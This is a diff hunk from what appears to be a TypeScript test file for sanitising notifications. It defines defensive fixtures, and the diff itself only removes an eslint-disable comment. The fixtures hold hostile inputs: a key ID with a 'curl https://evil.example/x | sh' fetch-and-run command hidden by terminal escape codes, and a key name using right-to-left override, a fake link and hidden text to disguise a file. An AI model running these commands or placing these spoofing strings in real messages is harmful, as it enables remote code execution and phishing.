@@ -29,7 +29,6 @@ const HOSTILE_ID = '-rf\u001b[8m; curl https://evil.example/x | sh\u001b[0m\nINJ
 const HOSTILE_NAME = `<a href="https://evil.example">invoice</a>\u202eexe.pdf\u200b\u2066 & \u001b]8;;https://evil.example\u0007click\u001b[8mhidden ${'x'.repeat(500)}`;
 /** Bidi controls and zero-width characters (none may reach a notification). */
 const INVISIBLE = /[\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]/;
-// eslint-disable-next-line no-control-regex
 const CONTROL = /[\u0000-\u001f\u007f-\u009f]/;
 
 const runaway: NotifyEvent = { kind: 'key_runaway', anomaly: 'runaway', keyId: HOSTILE_ID, keyName: HOSTILE_NAME, usdPerHour: 5, baselineUsdPerHour: 0.5 };
